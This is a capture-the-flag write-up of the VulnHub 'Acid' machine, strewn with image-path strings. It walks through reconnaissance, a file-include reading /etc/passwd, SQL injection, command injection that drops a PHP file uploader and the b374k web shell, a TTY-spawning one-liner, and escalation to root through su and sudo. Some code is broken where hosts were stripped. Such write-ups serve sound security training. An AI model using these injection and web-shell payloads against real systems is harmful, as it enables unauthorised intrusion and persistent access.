Acid 1 VulnHub Writeup

  1. Host discovery
  2. Service discovery
  3. Port 33447
  4. wow.jpg
  5. /Challenge
  6. Dirbuster on /Challenge
  7. Dirbuster on /Challenge/Magic_Box
  8. Looking for a back door
  9. Conclusion

So, VulnHub released a new image by @m_avinash143. Time to break more things, for fun. This one's called Acid.

This VM has been provided as a VMWare image, however as I'm now on a Mac, I had to create a new VirtualBox machine, and attach the VDI as the primary disk. After this, the image span up just fine (32bit CPU).

Host discovery

This time, I decided to use a different tool to discover the host once it came up - netdiscover.

netdiscover -i eth1 -rCurrently scanning: Finished!   |   Screen View: Unique Hosts

 3 Captured ARP Req/Rep packets, from 3 hosts.   Total size: 180
   IP            At MAC Address      Count  Len   MAC Vendor
 ---      0a:00:27:00:00:00    01    060   Unknown vendor           08:00:27:1b:11:3c    01    060   CADMUS COMPUTER SYSTEMS    08:00:27:fc:bd:e9    01    060   CADMUS COMPUTER SYSTEMS

The only IP I didn't recognise from this list was

Service discovery

Time to fire up nmap, to find out exactly what we're dealing with.

nmap -p 1-65535 -T4 -A -v

nmap came back, reporting a single open port - 33447.Port 33447

Looking at the output from nmap, it looks like port 33447 is running Apache 2.4.10. After opening it up in a browser, we're shown the 'splash screen' for the challenge.

After inspecting the HTTP response, we can see a few interesting things. First of all, the title appears to contain the path '/Challenge'. We'll re-visit this shortly.

Another interesting point is that at the bottom of the response, there is a HEX number - 0x643239334c6d70775a773d3d. When we convert this to a string, it results in a Base64 string, which in turn decodes to 'wow.jpg'.

Continuing our initial recon, we check for robots.txt, which does not exist. Time to move on.


The file wow.jpg does not exist in the root directory, but going on the location of the background image, after checking the 'images' directory we find it at the path 'images/wow.jpg'. Directory listing is disabled on the 'images' directory. After checking for strings in wow.jpg, a long set of numbers was retrieved - 37:61:65:65:30:66:36:64:35:38:38:65:64:39:39:30:35:65:65:33:37:66:31:36:61:37:63:36:31:30:64:34. I tried decoding this as text, but was met with garbage. I keep a note of this for later, as it doesn't appear to belong in the JPG.


Upon visiting the '/Challenge' URL,we're met with a login form.

Looks to submit to PHP script. A leftover comment in the 'Challenge/styles/main.css' file suggests that this login form was taken from a tutorial blog post (in particular,, which in turn takes influence from After a bit of testing, it doesn't look like this is vulnerable to SQLI, so let's move on.

Dirbuster on /Challenge

Not much of interest was found in the root directory, so we move on to the '/Challenge' path. This resulted in several matches. One particular file of interest is '/Challenge/include.php', which allows you to include a file (such as ../index.html), after which its contents are output on the page. It's worth noting, that you can only access this script if you have visited the login page before, and been displayed the 'Protected Page' error message before. I suspect there is some incorrect checking going on here for access - good for us!

After some experimentation, it looks like the web root is located in '/var/www/html'. I found this out by including the absolute path of '/var/www/html'. Unfortunately, it looks like this script is calling the 'include' method, so we can't inspect the source of our PHP scripts any further. After submitting the path '/etc/passwd', we can see there are a couple of interesting users on this machine - acid, and saman. Apart from this, I don't think we're going to get much useful information from this script.

One note - in the source of the 'include.php' script that's output to the browser, there is anotherhex comment, similar to the first one we found earlier, with the value of 0x5933566a4c6e4a34626e413d. This decodes to another Base64 string, which in turn decodes to 'cuc.rxnp'. Looks like junk, but let's keep it in mind, just in case.

Another couple of other interesting files came out from dirbuster - '/Challenge/hacked.php' and '/Challenge/cake.php'. Upon visiting '', we're presented with an input, prompting for an ID. This form doesn't actually appear to do much at first, but after I changed the method to POST, it looks like we can trigger an SQLI by escaping with a single quote. The error from PHP is output in the console. I'm going to keep a note of this for later, in case we run out of steam.

After visiting our final interesting URL of '/Challenge/cake.php', I noticed that the title has once again been set to what looks like a path (/Magic_Box). After visiting the URL of '/Challenge/Magic_Box', I believe this is an actual directory, as we are given a 403 listing, as if directory listing is disabled. If it didn't exist on the file system, we'd of been shown a 404 error instead. Time to break out dirbuster again.

Below are the results for my dirbuster run on the '/Challenge' directory.

DirBuster 1.0-RC1 - Report
Report produced on Wed Aug 12 14:36:53 UTC 2015
Directories found during testing:Dirs found with a 403 response:


Dirs found with a 200 response:


Files found during testing:

Files found with a 200 responce:


Files found with a 302 responce:Dirbuster on /Challenge/Magic_Box

After running dirbuster on the '/Challenge/Magic_Box' path, we find a few more PHP scripts to play with, one of which is named 'command.php'. Below is the output from dirbuster on '/Challenge/Magic_Box'.

DirBuster 1.0-RC1 - Report
Report produced on Wed Aug 12 15:31:45 UTC 2015
Directories found during testing:

Dirs found with a 403 response:


Dirs found with a 200 response:



After submitting the IP address, we cansee in the response source what looks like output from the 'ping' command. Going purely on the rendered page, this would not be apparent, as the font colour has been set to white, and the text is output prior to any other elements. From here, I try a command injection with a semicolon.

; ls

After submitting our rather simple payload, we can see a directory listing. Awesome! Time to drop a shell and get up to some mischief. Initially, I was unable to write to a new file, however after traversing up one directory I was able to write out. The followingpayload drops a small PHP uploader script, which allows me to upload files of higher complexity.

"; echo '<?php error_reporting(E_ALL); ini_set("display_errors", 1); $fp = fopen($_POST["name"], "wb"); fwrite($fp, base64_decode($_POST["content"])); fclose($fp);' > ../test.php

Once this has been dropped, I can use a small Python script to upload the good old b374k shell.

import requests,base64
s = requests.session()
target = ""

f = open('b374k.php')
payload = {
        "name": "test2.php",
        "content": base64.b64encode("\n".join(f.readlines()))
r =, data=payload)

Looking for a back door

I'm going to admit - I got stuck on this stage for a while.

After looking through the web root, we discovered a few interesting bits. First of all, the root login for MySQL. This allowed us to check out the DB for any other tables of interest, but I came up blank. Another find was files with seemingly random filenames. I took note of these for later.

Moving out of the web root, we find a directory named '/s.bin', with a file inside it called 'investigate.php'. Inside this file is a message stating 'Now you have to behave like an investigator to catch the culprit'.

Further investigation resulted in discovering a directorywithin the '/sbin' directory named 'raw_vs_isi', and within this directory is a pcap file named 'hint.pcapng'.

After pulling this file up in Wireshark, we find something a little funny...

It looks like a conversation took place in this PCAP across raw TCP packets. Thisfilter helped me filter out everything else and get just the messages in Wireshark. 'tcp.dstport == 1337 or tcp.srcport == 1337'. The conversation went a little like this..

1> heya
2> Hello
1> What was the name of the Culprit ???
2> saman and now a days he's known by the alias of 1337hax0r
1> oh...Fuck....Great...Now, we gonna Catch Him Soon :D
2> Yes .. We have to !! The mad bomber is on a rage
1> Ohk...cya
2> Over and Out

I'm not entirely sure what to think of that.. I know there's a user on the target machine named 'saman', but we don't have access to anything in their home directory. After this, I went back to the shell and did some more sniffing about.

I discovered a directory in '/bin'called 'pwn_me'. Inside this directory are binaries for 'chkrootkit'..rather old binaries at that. This version is supposedly vulnerable to a local privilege escalation vulnerability ( In theory, if this is being executed as a cron task of some kind, if I place a script in the '/tmp' directory named 'update', it will be executed by chkrootkit. In the few hours I've had the test 'update' script in place, it's not been executed, so I don't believe chkrootkit is running at all - a shame.

Another CVE that might be applicable is CVE-2015-1328, due to the kernel version being ''. After some experimentation, I could get this exploit to work on a 64bit machine, however on a 32bit machine it fails.

Here is where I got a little stuck. After taking a break, I went back and decided to try and elevate to another user on the machine. I feel like I got very lucky here - after putting together a list of strings I've gathered, I went to town on 'su'. As the reverse shell from b374k doesn't give us a TTY, I use the following snippet to get us a TTY session.

python -c 'import pty; pty.spawn("/bin/bash")'

After a number of attempts on the 'acid' user, I move on to the 'saman' user. BINGO! The hackers other name of '1337hax0r' was also their password. From this user, I attempt to sudo - first time! We're now root, and we have obtained the flag./var/www/html/Challenge/includes>python -c 'import pty; pty.spawn("/bin/sh")'
/var/www/html/Challenge/includes>su saman

saman@acid:/var/www/html/Challenge/includes$ sudo su
[sudo] password for saman:

  ____                            _         _       _   _
 / ___|___  _ __   __ _ _ __ __ _| |_ _   _| | __ _| |_(_) ___  _ __  ___
| |   / _ \| '_ \ / _` | '__/ _` | __| | | | |/ _` | __| |/ _ \| '_ \/ __|
| |__| (_) | | | | (_| | | | (_| | |_| |_| | | (_| | |_| | (_) | | | \__ \
 \____\___/|_| |_|\__, |_|  \__,_|\__|\__,_|_|\__,_|\__|_|\___/|_| |_|___/root@acid:/var/www/html/Challenge/includes# cd
root@acid:~# cat flag.txtDear Hax0r,

You have successfully completed the challenge.

I  hope you like it.

FLAG NAME: "Acid@Makke@Hax0r"

Kind & Best Regards



Thank you for this machine @m_avinash143. I learnt a couple ofnew tricks while attacking it, and learnt patience while investigating potential vulnerabilities I could use to elevate my privilege. Over all, anenjoyable experience!

I'm pretty sure there was an alternative route to solvingthis, other than using dirbuster on the '/Challenge/Magic_Box' path, but I'm not entirely surewhat it was. I look forward to reading otherwrite ups on this challenge.